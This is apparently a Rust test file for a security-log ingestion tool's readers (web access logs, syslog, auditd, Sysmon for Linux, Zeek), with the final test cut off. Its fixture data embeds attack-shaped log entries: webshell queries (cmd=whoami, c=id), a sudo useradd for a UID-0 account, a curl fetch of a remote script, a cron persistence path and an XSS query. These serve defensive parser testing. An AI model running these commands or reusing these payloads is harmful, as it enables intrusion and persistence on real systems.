//! Text-log readers: web servers, syslog/auth, auditd, Sysmon for Linux,
//! Zeek. Expected values come from the fixtures themselves (counted here
//! independently of the readers), never from reader output.
#![allow(clippy::unwrap_used, reason = "test code may unwrap")]

use kahu_event::{Event, Location, LogSource, Value};
use kahu_ingest::linux::{Auditd, Syslog};
use kahu_ingest::web::{AccessLog, IisW3c};
use kahu_ingest::zeek::{ZeekJson, ZeekTsv};
use kahu_ingest::{Format, Input, Origin, Sink, Warning, all_formats};
use std::path::{Path, PathBuf};
use std::sync::Arc;

#[derive(Default)]
struct Collect {
    events: Vec<Event>,
    warnings: Vec<Warning>,
}

impl Sink for Collect {
    fn event(&mut self, event: Event) -> bool {
        self.events.push(event);
        true
    }
    fn warning(&mut self, warning: Warning) {
        self.warnings.push(warning);
    }
}

fn origin(name: &str) -> Origin {
    Origin {
        file: Arc::from(name),
        member: None,
        host_hint: Some(Arc::from("hint-host")),
        modified: None,
    }
}

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data/textlogs")
        .join(name)
}

fn shared() -> Option<PathBuf> {
    kahu_test_support::shared("")
}

fn read_file(f: &dyn Format, path: &Path) -> Collect {
    let mut c = Collect::default();
    f.read(Input::File(path), &origin(&path.to_string_lossy()), &mut c)
        .unwrap();
    c
}

fn read_mem(f: &dyn Format, name: &str, data: &[u8]) -> Collect {
    let mut c = Collect::default();
    f.read(Input::Memory(data), &origin(name), &mut c).unwrap();
    c
}

fn s(ev: &Event, k: &str) -> Option<String> {
    ev.get(k).and_then(Value::as_text).map(|c| c.into_owned())
}

fn detected(path: &Path) -> &'static str {
    let data = std::fs::read(path).unwrap();
    let head = &data[..data.len().min(kahu_ingest::SNIFF_LEN)];
    let name = path.file_name().unwrap().to_string_lossy();
    all_formats()
        .iter()
        .find(|f| f.detect(head, &name))
        .map(|f| f.name())
        .unwrap_or("none")
}

fn has_ls(
    ev: &Event,
    product: Option<&str>,
    service: Option<&str>,
    category: Option<&str>,
) -> bool {
    ev.logsources().any(|l: &LogSource| {
        l.product.as_deref() == product
            && l.service.as_deref() == service
            && l.category.as_deref() == category
    })
}

fn line_of(ev: &Event) -> u64 {
    match ev.provenance.location {
        Location::Line(n) => n,
        other => panic!("expected a line location, got {other:?}"),
    }
}

fn warned_line(c: &Collect, n: u64) -> bool {
    c.warnings
        .iter()
        .any(|w| w.location == Some(Location::Line(n)))
}

// ---------------------------------------------------------------- web

#[test]
fn apache_shared_sample() {
    let Some(sh) = shared() else {
        eprintln!("SKIP: shared data not found (set KAHU_SHARED)");
        return;
    };
    let p = sh.join("evtx/EVTX-ATTACK-SAMPLES/Command and Control/web_attack_and_isp_webshell_localhost_access_log.txt");
    let raw = std::fs::read(&p).unwrap();
    let expected = raw
        .split(|&b| b == b'\n')
        .filter(|l| l.iter().any(|b| !b.is_ascii_whitespace()))
        .count();
    assert_eq!(detected(&p), "apache-access");
    let c = read_file(&AccessLog, &p);
    assert_eq!(c.events.len(), expected);
    assert!(c.warnings.is_empty(), "{:?}", c.warnings.first());
    let first = &c.events[0];
    // 192.168.105.83 - - [11/Jul/2018:08:41:28 +0300] "GET / HTTP/1.1" 200 11444
    assert_eq!(s(first, "c-ip").as_deref(), Some("192.168.105.83"));
    assert_eq!(
        first.timestamp.unwrap().to_rfc3339(),
        "2018-07-11T05:41:28+00:00"
    );
    assert_eq!(first.get("sc-status"), Some(&Value::Int(200)));
    assert_eq!(first.get("sc-bytes"), Some(&Value::Int(11444)));
    assert_eq!(first.host.as_deref(), Some("hint-host"));
    assert!(has_ls(first, None, None, Some("webserver")));
    // Line 879 has unescaped quotes inside the request.
    let xss = c.events.iter().find(|e| line_of(e) == 879).unwrap();
    assert_eq!(s(xss, "cs-method").as_deref(), Some("GET"));
    assert_eq!(
        s(xss, "cs-uri-stem").as_deref(),
        Some("/WebID/IISWebAgentIF.dll")
    );
    assert_eq!(
        s(xss, "cs-uri-query").as_deref(),
        Some("postdata=\"><script>foo</script>")
    );
    assert_eq!(xss.get("sc-status"), Some(&Value::Int(404)));
    // Line 27 is a TLS handshake sent to the HTTP port: no method.
    let tls = c.events.iter().find(|e| line_of(e) == 27).unwrap();
    assert!(tls.get("cs-method").is_none());
    assert_eq!(tls.get("sc-status"), Some(&Value::Int(400)));
    // Independent count of POSTs in the raw file vs events with cs-method POST.
    let posts = raw
        .split(|&b| b == b'\n')
        .filter(|l| l.windows(6).any(|w| w == b"\"POST "))
        .count();
    assert_eq!(
        c.events
            .iter()
            .filter(|e| s(e, "cs-method").as_deref() == Some("POST"))
            .count(),
        posts
    );
}

#[test]
fn iis_shared_sample() {
    let Some(sh) = shared() else {
        eprintln!("SKIP: shared data not found (set KAHU_SHARED)");
        return;
    };
    let p = sh.join("evtx/EVTX-ATTACK-SAMPLES/Command and Control/Tunna_rdp_tunnel_IIS.log");
    let text = std::fs::read_to_string(&p).unwrap();
    let expected = text
        .lines()
        .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
        .count();
    assert_eq!(detected(&p), "iis");
    let c = read_file(&IisW3c, &p);
    assert_eq!(c.events.len(), expected);
    assert!(c.warnings.is_empty(), "{:?}", c.warnings.first());
    let e = &c.events[0];
    // 2019-09-03 10:13:36 10.0.2.15 GET /erp/conn.aspx proxy&port=3389&ip=127.0.0.1 80 - 10.0.2.17 - - 200 0 0 7
    assert_eq!(
        e.timestamp.unwrap().to_rfc3339(),
        "2019-09-03T10:13:36+00:00"
    );
    assert_eq!(s(e, "cs-method").as_deref(), Some("GET"));
    assert_eq!(s(e, "cs-uri-stem").as_deref(), Some("/erp/conn.aspx"));
    assert_eq!(
        s(e, "cs-uri-query").as_deref(),
        Some("proxy&port=3389&ip=127.0.0.1")
    );
    assert_eq!(s(e, "c-ip").as_deref(), Some("10.0.2.17"));
    assert_eq!(e.get("s-port"), Some(&Value::Int(80)));
    assert_eq!(e.get("time-taken"), Some(&Value::Int(7)));
    assert!(e.get("cs-username").is_none(), "`-` means absent");
    assert_eq!(line_of(e), 7);
    assert!(has_ls(e, Some("iis"), None, Some("webserver")));
    let tunna = text
        .lines()
        .filter(|l| !l.starts_with('#') && l.contains("proxy&port="))
        .count();
    assert!(tunna > 0);
    assert_eq!(
        c.events
            .iter()
            .filter(|e| s(e, "cs-uri-query").is_some_and(|q| q.contains("proxy&port=")))
            .count(),
        tunna
    );
}

#[test]
fn iis_fields_change_mid_file_and_hostile_lines() {
    let mut data = String::from(
        "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Fields: date time c-ip cs-method cs-uri-stem sc-status cs(User-Agent)\r\n",
    );
    data.push_str(
        "2024-05-01 01:02:03 10.9.9.9 GET /a.aspx 200 Mozilla/5.0+(compatible;+sqlmap/1.7)\r\n",
    ); // line 4
    data.push_str("2024-05-01 01:02:04 10.9.9.9 GET\r\n"); // 5: too few values
    data.push_str(&"A".repeat(2 * 1024 * 1024)); // 6: enormous line
    data.push_str("\r\n#Fields: date time s-computername cs-host cs-method cs-uri-stem cs-uri-query sc-status\r\n"); // 7
    data.push_str(
        "2024-05-01 02:00:00 WEB01 owa.example.org POST /owa/auth/x.js cmd=whoami 500\r\n",
    ); // 8
    data.push_str("\u{0}\u{1}binary\u{ff}garbage\r\n"); // 9
    data.push_str("2024-05-01 02:00:01 WEB01 owa.example.org GET /ok - 200"); // 10, no newline
    let c = read_mem(&IisW3c, "u_ex240501.log", data.as_bytes());
    let lines: Vec<u64> = c.events.iter().map(line_of).collect();
    assert_eq!(lines, vec![4, 5, 8, 9, 10]);
    assert!(warned_line(&c, 5) && warned_line(&c, 6) && warned_line(&c, 9));
    assert_eq!(
        s(&c.events[0], "cs-user-agent").as_deref(),
        Some("Mozilla/5.0 (compatible; sqlmap/1.7)")
    );
    assert_eq!(
        s(&c.events[0], "cs(User-Agent)").as_deref(),
        Some("Mozilla/5.0 (compatible; sqlmap/1.7)")
    );
    let owa = &c.events[2];
    assert_eq!(owa.host.as_deref(), Some("WEB01"));
    assert_eq!(s(owa, "cs-host").as_deref(), Some("owa.example.org"));
    assert_eq!(s(owa, "cs-uri-query").as_deref(), Some("cmd=whoami"));
    assert!(
        owa.get("c-ip").is_none(),
        "fields of the old header must not leak"
    );
    assert_eq!(c.events[4].host.as_deref(), Some("WEB01"));
    assert!(c.events[4].get("cs-uri-query").is_none());
}

#[test]
fn access_log_hostile_lines() {
    let mut data = Vec::new();
    data.extend_from_slice(
        b"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] \"GET /a HTTP/1.1\" 200 5 \"-\" \"curl/8\"\n",
    );
    data.extend_from_slice(b"garbage \xff\xfe line\n");
    data.extend_from_slice(&vec![b'x'; 1_500_000]);
    data.extend_from_slice(b"\n10.0.0.2 - alice [01/Jan/2024:00:00:01 +0100] \"POST /shell.php?c=id HTTP/1.1\" 200 - \"http://x/\" \"Mozilla \\\"evil\\\"\" \"203.0.113.1\"\n");
    data.extend_from_slice(
        b"10.0.0.3 - - [01/Jan/2024:00:00:02 +0000] \"GET /trunc HTTP/1.1\" 200 12 \"-\" \"Moz",
    );
    let c = read_mem(&AccessLog, "access.log", &data);
    assert_eq!(
        c.events.iter().map(line_of).collect::<Vec<_>>(),
        vec![1, 2, 4, 5]
    );
    assert!(warned_line(&c, 2) && warned_line(&c, 3));
    let e = &c.events[2];
    assert_eq!(
        e.timestamp.unwrap().to_rfc3339(),
        "2023-12-31T23:00:01+00:00"
    );
    assert_eq!(s(e, "cs-username").as_deref(), Some("alice"));
    assert_eq!(s(e, "cs-user-agent").as_deref(), Some("Mozilla \"evil\""));
    assert_eq!(s(e, "cs-uri-query").as_deref(), Some("c=id"));
    assert_eq!(s(&c.events[3], "cs-user-agent").as_deref(), Some("Moz"));
}

// ---------------------------------------------------------------- linux

fn reference() -> kahu_event::Timestamp {
    kahu_event::parse_timestamp("2024-01-02T00:00:00Z").unwrap()
}

#[test]
fn auth_log_fixture() {
    let p = fixture("auth.log");
    assert_eq!(detected(&p), "syslog");
    let data = std::fs::read(&p).unwrap();
    let text = String::from_utf8(data.clone()).unwrap();
    let c = read_mem(
        &Syslog::default().with_reference(reference()),
        "auth.log",
        &data,
    );
    assert_eq!(c.events.len(), text.lines().count());
    // Line 17 is not syslog: warned, kept as a raw message.
    assert!(warned_line(&c, 17));
    assert_eq!(c.warnings.len(), 1);
    let failed = text
        .lines()
        .filter(|l| l.contains("Failed password") || l.contains("Invalid user"))
        .count();
    let got_failed = c
        .events
        .iter()
        .filter(|e| {
            s(e, "action").as_deref() == Some("ssh_login")
                && s(e, "outcome").as_deref() == Some("failure")
        })
        .count();
    assert_eq!(got_failed, failed);
    // Year inference: Dec 31 before a Jan 2 reference is the previous year.
    assert_eq!(
        c.events[0].timestamp.unwrap().to_rfc3339(),
        "2023-12-31T23:59:58+00:00"
    );
    assert_eq!(
        c.events[2].timestamp.unwrap().to_rfc3339(),
        "2024-01-01T00:00:01+00:00"
    );
    let acc = &c.events[5];
    assert_eq!(s(acc, "outcome").as_deref(), Some("success"));
    assert_eq!(s(acc, "user").as_deref(), Some("deploy"));
    assert_eq!(s(acc, "src_ip").as_deref(), Some("203.0.113.50"));
    assert_eq!(acc.get("port"), Some(&Value::Int(40114)));
    assert_eq!(acc.host.as_deref(), Some("web01"));
    assert_eq!(acc.provider.as_deref(), Some("sshd"));
    assert_eq!(acc.channel.as_deref(), Some("auth"));
    assert!(has_ls(acc, Some("linux"), Some("auth"), None));
    assert!(has_ls(acc, Some("linux"), Some("sshd"), None));
    assert!(has_ls(acc, Some("linux"), Some("syslog"), None));
    let sudo = &c.events[8];
    assert_eq!(s(sudo, "USER").as_deref(), Some("root"));
    assert_eq!(s(sudo, "user").as_deref(), Some("deploy"));
    assert!(
        s(sudo, "COMMAND")
            .unwrap()
            .starts_with("/usr/sbin/useradd -o -u 0")
    );
    assert!(has_ls(sudo, Some("linux"), Some("sudo"), None));
    let useradd = &c.events[11];
    assert_eq!(s(useradd, "action").as_deref(), Some("user_add"));
    assert_eq!(s(useradd, "user").as_deref(), Some("sysadm"));
    assert_eq!(s(useradd, "UID").as_deref(), Some("0"));
    // CVE-2019-14287 shape (USER=#-1) for lnx_sudo_exploit_cve_2019_14287.
    assert_eq!(s(&c.events[13], "USER").as_deref(), Some("#-1"));
    assert_eq!(s(&c.events[13], "outcome").as_deref(), Some("failure"));
    // The sshd keyword rule for CVE-2018-15473 matches the message text.
    assert!(
        s(&c.events[18], "msg")
            .unwrap()
            .contains("buffer_get_ret: trying to get more bytes 1907 than in buffer 308")
    );
}

#[test]
fn syslog_year_from_file_mtime() {
    // Reading the fixture from disk dates it by its mtime: never in the future.
    let c = read_file(&Syslog::default(), &fixture("auth.log"));
    let mtime = chrono::DateTime::<chrono::Utc>::from(
        std::fs::metadata(fixture("auth.log"))
            .unwrap()
            .modified()
            .unwrap(),
    );
    for e in c.events.iter().filter(|e| e.timestamp.is_some()) {
        assert!(e.timestamp.unwrap() <= mtime + chrono::Duration::days(2));
        assert!(e.timestamp.unwrap() > mtime - chrono::Duration::days(366));
    }
}

#[test]
fn rfc5424_fixture() {
    let p = fixture("rfc5424.log");
    assert_eq!(detected(&p), "syslog");
    let c = read_file(&Syslog::default(), &p);
    assert_eq!(c.events.len(), 4);
    assert!(warned_line(&c, 4));
    let e = &c.events[0];
    assert_eq!(
        e.timestamp.unwrap().to_rfc3339(),
        "2024-03-01T08:15:30.123+00:00"
    );
    assert_eq!(e.host.as_deref(), Some("db02.example.org"));
    assert_eq!(e.get("facility"), Some(&Value::Int(4)));
    assert_eq!(e.get("severity"), Some(&Value::Int(2)));
    assert_eq!(s(e, "user").as_deref(), Some("oracle"));
    let sudo = &c.events[1];
    assert_eq!(s(sudo, "COMMAND").as_deref(), Some("/bin/sh -c id"));
    assert_eq!(
        s(sudo, "structured_data").as_deref(),
        Some("[origin ip=\"10.0.0.5\"][meta sequenceId=\"7\"]")
    );
    let named = &c.events[2];
    assert_eq!(s(named, "msgid").as_deref(), Some("XFR"));
    assert!(has_ls(named, Some("linux"), Some("syslog"), None));
    assert!(s(named, "msg").unwrap().contains(" denied AXFR from "));
}

#[test]
fn auditd_fixture() {
    let p = fixture("audit.log");
    assert_eq!(detected(&p), "auditd");
    let text = std::fs::read_to_string(&p).unwrap();
    // One event per distinct msg=audit(time:serial), excluding EOE-only ones.
    let mut ids: Vec<&str> = text
        .lines()
        .filter_map(|l| l.split("msg=audit(").nth(1)?.split(')').next())
        .collect();
    ids.sort();
    ids.dedup();
    let c = read_file(&Auditd, &p);
    assert_eq!(c.events.len(), ids.len());
    let garbage = text.lines().position(|l| l.starts_with("garbage")).unwrap() as u64 + 1;
    assert!(warned_line(&c, garbage));
    let ws = c
        .events
        .iter()
        .find(|e| e.get("serial") == Some(&Value::UInt(501)))
        .unwrap();
    assert_eq!(line_of(ws), 1);
    assert_eq!(
        s(ws, "CommandLine").as_deref(),
        Some("bash -c whoami ; id \"$()")
    );
    assert_eq!(
        s(ws, "proctitle").as_deref(),
        Some("bash -c whoami ; id \"$()")
    );
    assert_eq!(s(ws, "Image").as_deref(), Some("/usr/bin/bash"));
    assert_eq!(
        s(ws, "CurrentDirectory").as_deref(),
        Some("/var/www/html/uploads")
    );
    assert_eq!(s(ws, "SYSCALL").as_deref(), Some("execve"));
    assert_eq!(s(ws, "key").as_deref(), Some("webshell_exec"));
    assert_eq!(ws.get("euid"), Some(&Value::Int(33)));
    assert_eq!(ws.timestamp.unwrap().timestamp(), 1704103380);
    assert!(has_ls(ws, Some("linux"), Some("auditd"), None));
    assert!(has_ls(ws, Some("linux"), None, Some("process_creation")));
    let Some(Value::Array(types)) = ws.get("type") else {
        panic!("type should list record types")
    };
    assert!(types.contains(&Value::str("EXECVE")) && types.contains(&Value::str("SYSCALL")));
    let Some(Value::Array(names)) = ws.get("name") else {
        panic!("PATH names should be a list")
    };
    assert_eq!(names.len(), 2);
    // Interleaved records of 502 are joined; parent from 501.
    let who = c
        .events
        .iter()
        .find(|e| e.get("serial") == Some(&Value::UInt(502)))
        .unwrap();
    assert_eq!(s(who, "CommandLine").as_deref(), Some("whoami"));
    assert_eq!(s(who, "ParentImage").as_deref(), Some("/usr/bin/bash"));
    let sl = c
        .events
        .iter()
        .find(|e| e.get("serial") == Some(&Value::UInt(503)))
        .unwrap();
    assert_eq!(s(sl, "SYSCALL").as_deref(), Some("syslog"));
    assert_eq!(sl.get("a0"), Some(&Value::Int(5)));
    assert!(!has_ls(sl, Some("linux"), None, Some("process_creation")));
    let login = c
        .events
        .iter()
        .find(|e| e.get("serial") == Some(&Value::UInt(510)))
        .unwrap();
    assert_eq!(s(login, "addr").as_deref(), Some("203.0.113.50"));
    assert_eq!(s(login, "res").as_deref(), Some("success"));
    assert_eq!(s(login, "exe").as_deref(), Some("/usr/sbin/sshd"));
    let chunked = c
        .events
        .iter()
        .find(|e| e.get("serial") == Some(&Value::UInt(520)))
        .unwrap();
    assert_eq!(s(chunked, "CommandLine").as_deref(), Some("sh /tmp/x.sh"));
}

#[test]
fn auditd_mordor_samples() {
    let Some(sh) = shared() else {
        eprintln!("SKIP: shared data not found (set KAHU_SHARED)");
        return;
    };
    let dir = sh.join("mordor/atomic/linux");
    let mut checked = 0;
    for entry in walk(&dir) {
        if entry.extension().and_then(|e| e.to_str()) != Some("zip") {
            continue;
        }
        let file = std::fs::File::open(&entry).unwrap();
        let mut z = zip::ZipArchive::new(file).unwrap();
        for i in 0..z.len() {
            let mut m = z.by_index(i).unwrap();
            let mut buf = Vec::new();
            std::io::Read::read_to_end(&mut m, &mut buf).unwrap();
            let text = String::from_utf8_lossy(&buf);
            let mut ids: Vec<&str> = text
                .lines()
                .filter_map(|l| l.split("msg=audit(").nth(1)?.split(')').next())
                .collect();
            ids.sort();
            ids.dedup();
            let execs = text
                .lines()
                .filter(|l| l.starts_with("type=EXECVE"))
                .count();
            assert!(Auditd.detect(&buf[..buf.len().min(8192)], m.name()));
            let c = read_mem(&Auditd, m.name(), &buf);
            assert_eq!(c.events.len(), ids.len(), "{}", m.name());
            assert!(c.warnings.is_empty());
            assert_eq!(
                c.events
                    .iter()
                    .filter(|e| e.get("CommandLine").is_some())
                    .count(),
                execs
            );
            checked += 1;
        }
    }
    assert!(checked > 0, "no Mordor Linux zips found");
    // The dd sample's PROCTITLE decodes to the command line.
    let z = dir.join("defense_evasion/host/sh_binary_padding_dd.zip");
    if z.exists() {
        let mut a = zip::ZipArchive::new(std::fs::File::open(z).unwrap()).unwrap();
        let mut buf = Vec::new();
        std::io::Read::read_to_end(&mut a.by_index(0).unwrap(), &mut buf).unwrap();
        let c = read_mem(&Auditd, "dd.log", &buf);
        assert_eq!(
            s(&c.events[0], "CommandLine").as_deref(),
            Some("dd if=/dev/zero bs=1 count=1")
        );
        assert_eq!(
            s(&c.events[0], "proctitle").as_deref(),
            Some("dd if=/dev/zero bs=1 count=1")
        );
        assert_eq!(s(&c.events[0], "Image").as_deref(), Some("/bin/dd"));
    }
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let Ok(rd) = std::fs::read_dir(dir) else {
        return out;
    };
    for e in rd.flatten() {
        let p = e.path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p);
        }
    }
    out
}

/// Sysmon for Linux retagged by a forwarder (program `Linux-Sysmon`,
/// rsyslog's high-precision header) and auoms records in the same syslog
/// file: both become typed events, not syslog text.
#[test]
fn retagged_sysmon_and_auoms_in_syslog() {
    let original = std::fs::read_to_string(fixture("sysmon_linux.log")).unwrap();
    let first = original.lines().next().unwrap();
    let xml = &first[first.find("<Event>").unwrap()..];
    let text = format!(
        "2021-10-19T14:41:06.500000+00:00 web01 Linux-Sysmon[812]: {xml}\n\
         Dec 14 19:26:40 web01 auoms[991]: type=AUOMS_EXECVE audit(1639510000.123:4567): syscall=execve success=yes exit=0 ppid=1200 pid=1300 audit_user=root auid=0 user=root uid=0 exe=\"/usr/bin/curl\" cmdline=\"curl -s http://198.51.100.7:8080/a.sh\" cwd=\"/tmp\"\n"
    );
    let c = read_mem(&Syslog::default(), "messages", text.as_bytes());
    assert!(c.warnings.is_empty(), "{:?}", c.warnings);
    assert_eq!(c.events.len(), 2);
    let sy = &c.events[0];
    assert_eq!(sy.event_id, Some(1));
    assert!(has_ls(sy, Some("linux"), None, Some("process_creation")));
    assert_eq!(s(sy, "Image").as_deref(), Some("/usr/bin/base64"));
    let au = &c.events[1];
    assert_eq!(au.host.as_deref(), Some("web01"));
    assert!(has_ls(au, Some("linux"), Some("auditd"), None));
    assert!(has_ls(au, Some("linux"), None, Some("process_creation")));
    assert_eq!(s(au, "Image").as_deref(), Some("/usr/bin/curl"));
    assert_eq!(s(au, "ParentProcessId").as_deref(), Some("1200"));
    assert_eq!(au.timestamp.unwrap().timestamp_millis(), 1_639_510_000_123);
}

#[test]
fn sysmon_for_linux_fixture() {
    let p = fixture("sysmon_linux.log");
    assert_eq!(detected(&p), "syslog");
    let c = read_file(&Syslog::default(), &p);
    assert_eq!(c.events.len(), 4);
    assert!(warned_line(&c, 4));
    let pc = &c.events[0];
    assert_eq!(pc.event_id, Some(1));
    assert_eq!(pc.host.as_deref(), Some("ubuntu"));
    assert_eq!(
        pc.timestamp.unwrap().to_rfc3339(),
        "2021-10-19T21:41:06.439+00:00"
    );
    assert!(has_ls(pc, Some("linux"), None, Some("process_creation")));
    assert_eq!(s(pc, "Image").as_deref(), Some("/usr/bin/base64"));
    assert_eq!(
        s(pc, "CommandLine").as_deref(),
        Some("base64 -d /tmp/payload.b64")
    );
    assert_eq!(s(pc, "ParentImage").as_deref(), Some("/usr/bin/bash"));
    assert!(has_ls(
        &c.events[1],
        Some("linux"),
        None,
        Some("network_connection")
    ));
    assert_eq!(s(&c.events[1], "DestinationPort").as_deref(), Some("4444"));
    assert!(has_ls(
        &c.events[2],
        Some("linux"),
        None,
        Some("file_event")
    ));
    assert_eq!(
        s(&c.events[2], "TargetFilename").as_deref(),
        Some("/etc/cron.d/evil & persist")
    );
}

#[test]
fn syslog_hostile_lines() {
    let mut data = Vec::new();
    data.extend_from_slice(b"Jan  1 00:00:00 h1 kernel: ok\n");
    data.extend_from_slice(&vec![b'y'; 1_100_000]);
    data.extend_from_slice(b"\n\x00\x01\x02\xff\xfe\n");
    data.extend_from_slice(b"Feb 30 00:00:00 h1 prog: impossible date\n");
    data.extend_from_slice(
        b"Jan  1 00:00:01 h1 sshd[1]: Accepted password for a from 1.2.3.4 port 5 ss",
    );
    let c = read_mem(
        &Syslog::default().with_reference(reference()),
        "messages",
        &data,
    );
    assert_eq!(
        c.events.iter().map(line_of).collect::<Vec<_>>(),
        vec![1, 3, 4, 5]
    );
    assert!(warned_line(&c, 2) && warned_line(&c, 3) && warned_line(&c, 4));
    assert_eq!(c.events[0].channel.as_deref(), Some("syslog"));
    assert_eq!(s(&c.events[3], "user").as_deref(), Some("a"));
}

// ---------------------------------------------------------------- zeek

#[test]
fn zeek_tsv_fixtures() {
    for (name, rows) in [("conn.log", 4), ("dns.log", 2), ("http.log", 2)] {
        let p = fixture(name);
        assert_eq!(detected(&p), "zeek-tsv", "{name}");
        let text = std::fs::read_to_string(&p).unwrap();
        assert_eq!(text.lines().filter(|l| !l.starts_with('#')).count(), rows);
    }
    let conn = read_file(&ZeekTsv, &fixture("conn.log"));
    // Row 3 (line 11) has too few columns.
    assert_eq!(conn.events.len(), 3);
    assert!(warned_line(&conn, 11));
    let e = &conn.events[0];
    assert_eq!(
        e.timestamp.unwrap().timestamp_micros(),
        1_704_067_200_123_456
    );
    assert_eq!(s(e, "id.orig_h").as_deref(), Some("10.0.0.5"));
    assert_eq!(e.get("id.resp_p"), Some(&Value::Int(4444)));
    assert_eq!(e.get("dst_port"), Some(&Value::Int(4444)));
    assert_eq!(e.get("local_orig"), Some(&Value::Bool(true)));
    assert_eq!(e.get("tunnel_parents"), Some(&Value::Array(vec![])));
    assert_eq!(e.get("duration"), Some(&Value::Float(12.5)));
    assert!(has_ls(e, Some("zeek"), Some("conn"), None));
    assert_eq!(e.channel.as_deref(), Some("conn"));
    assert!(conn.events[1].get("duration").is_none(), "`-` is unset");
    assert_eq!(
        conn.events[2].get("tunnel_parents"),
        Some(&Value::Array(vec![Value::str("C1"), Value::str("C2")]))
    );

    let dns = read_file(&ZeekTsv, &fixture("dns.log"));
    assert_eq!(dns.events.len(), 2);
    assert!(has_ls(&dns.events[0], Some("zeek"), Some("dns"), None));
    assert!(has_ls(&dns.events[0], None, None, Some("dns")));
    assert_eq!(
        s(&dns.events[0], "query").as_deref(),
        Some("pool.minexmr.com")
    );
    assert_eq!(s(&dns.events[1], "record_type").as_deref(), Some("TXT"));
    assert_eq!(dns.events[1].get("Z"), Some(&Value::Int(1)));
    assert_eq!(
        dns.events[1].get("answers"),
        Some(&Value::Array(vec![Value::str("v=spf1 x"), Value::str("y")]))
    );

    let http = read_file(&ZeekTsv, &fixture("http.log"));
    assert_eq!(http.events.len(), 2);
    let h = &http.events[0];
    assert!(has_ls(h, Some("zeek"), Some("http"), None));
    assert!(has_ls(h, None, None, Some("proxy")));
    assert_eq!(s(h, "c-uri").as_deref(), Some("/download/payload.exe?id=7"));
    assert_eq!(s(h, "c-uri-stem").as_deref(), Some("/download/payload.exe"));
    assert_eq!(s(h, "c-uri-query").as_deref(), Some("id=7"));
    assert_eq!(s(h, "c-uri-extension").as_deref(), Some("exe"));
    assert_eq!(s(h, "cs-host").as_deref(), Some("updates.example.top"));
    assert_eq!(
        s(h, "c-useragent").as_deref(),
        Some("Microsoft-CryptoAPI/10.0")
    );
    assert_eq!(h.get("sc-status"), Some(&Value::Int(200)));
    assert_eq!(s(h, "dst_ip").as_deref(), Some("198.51.100.20"));
    assert_eq!(s(&http.events[1], "cs-method").as_deref(), Some("PUT"));
}

#[test]
fn zeek_json_fixture() {
    let p = fixture("http.json");
    assert_eq!(detected(&p), "zeek-json");
    let c = read_file(&ZeekJson, &p);
    assert_eq!(c.events.len(), 3);
    assert!(warned_line(&c, 3));
    let e = &c.events[0];
    assert!(has_ls(e, Some("zeek"), Some("http"), None));
    assert!(has_ls(e, None, None, Some("proxy")));
    assert_eq!(e.timestamp.unwrap().timestamp_millis(), 1_704_067_500_250);
    assert_eq!(s(e, "cs-uri").as_deref(), Some("/admin/get.php"));
    assert_eq!(s(e, "cs-method").as_deref(), Some("POST"));
    assert_eq!(
        s(e, "c-useragent").as_deref(),
        Some("Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko")
    );
    assert_eq!(
        c.events[1].timestamp.unwrap().to_rfc3339(),
        "2024-01-01T00:05:01+00:00"
    );
    let ssl = &c.events[2];
    assert!(has_ls(ssl, Some("zeek"), Some("ssl"), None));
    assert_eq!(ssl.channel.as_deref(), Some("ssl"));
    assert_eq!(line_of(ssl), 4);
}

#[test]
fn zeek_tsv_hostile() {
    let mut data =
        b"#separator \\x09\n#fields\tts\tuid\tquery\n#types\ttime\tstring\tstring\n".to_vec();
    data.extend_from_slice(b"1.0\tC1\ta\\x00b\n");
    data.extend_from_slice(&vec![b'z'; 1_200_000]);
    data.extend_from_slice(b"\nnot-a-time\tC2\tq\n");
    data.extend_from_slice(b"#fields\tts\tnew\n#types\ttime\tcount\n2.0\t7\n");
    data.extend_from_slice(b"3.0\t8");
    let c = read_mem(&ZeekTsv, "weird.log", &data);
    assert_eq!(
        c.events.iter().map(line_of).collect::<Vec<_>>(),
        vec![4, 6, 9, 10]
    );
    assert!(warned_line(&c, 5) && warned_line(&c, 6));
    assert_eq!(c.events[0].channel.as_deref(), Some("weird"));
    assert_eq!(c.events[2].get("new"), Some(&Value::Int(7)));
    assert!(c.events[2].get("uid").is_none());
}

// ---------------------------------------------------------------- properties

mod props {
    use super::*;
    use proptest::prelude::*;

    fn readers() -> Vec<Box<dyn Format>> {
        vec![
            Box::new(IisW3c),
            Box::new(AccessLog),
            Box::new(Syslog::default()),
            Box::new(Auditd),
            Box::new(ZeekTsv),
            Box::new(ZeekJson),
        ]
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(128))]

        #[test]
        fn random_bytes_never_panic(data in proptest::collection::vec(any::<u8>(), 0..4096)) {
            for r in readers() {
                let _ = r.detect(&data, "x.log");
                let c = read_mem(r.as_ref(), "x.log", &data);
                prop_assert!(c.events.len() <= data.split(|&b| b == b'\n').count());
            }
        }

        #[test]
        fn mutated_fixtures_never_panic(idx in 0usize..8, cut in 0usize..4000, byte in any::<u8>(), pos in 0usize..4000) {
            let names = ["auth.log", "rfc5424.log", "audit.log", "sysmon_linux.log", "conn.log", "dns.log", "http.log", "http.json"];
            let mut data = std::fs::read(fixture(names[idx])).unwrap();
            if !data.is_empty() {
                let p = pos % data.len();
                data[p] = byte;
                data.truncate(cut.min(data.len()));
            }
            for r in readers() {
                let _ = read_mem(r.as_ref(), names[idx], &data);
            }
        }
    }
}

#[test]
fn iis_without_a_computer_name_is_tied_to_the_server_address() {
    // IIS's default field set: no s-computername, but s-ip.
    let data = "#Software: Microsoft Internet Information Services 10.0\r\n#Fields: date time s-ip cs-method cs-uri-stem s-port c-ip sc-status\r\n\
2024-05-01 01:02:03 10.20.1.5 POST /aspnet_client/shell.aspx 443 203.0.113.9 200\r\n\
#Fields: date time s-computername s-ip cs-method cs-uri-stem sc-status\r\n\
2024-05-01 01:02:04 WEB01 10.20.1.5 GET /ok 200\r\n";
    let mut c = Collect::default();
    let mut o = origin("u_ex240501.log");
    o.host_hint = None;
    IisW3c
        .read(Input::Memory(data.as_bytes()), &o, &mut c)
        .unwrap();
    assert_eq!(c.events.len(), 2);
    assert_eq!(c.events[0].host.as_deref(), Some("10.20.1.5"));
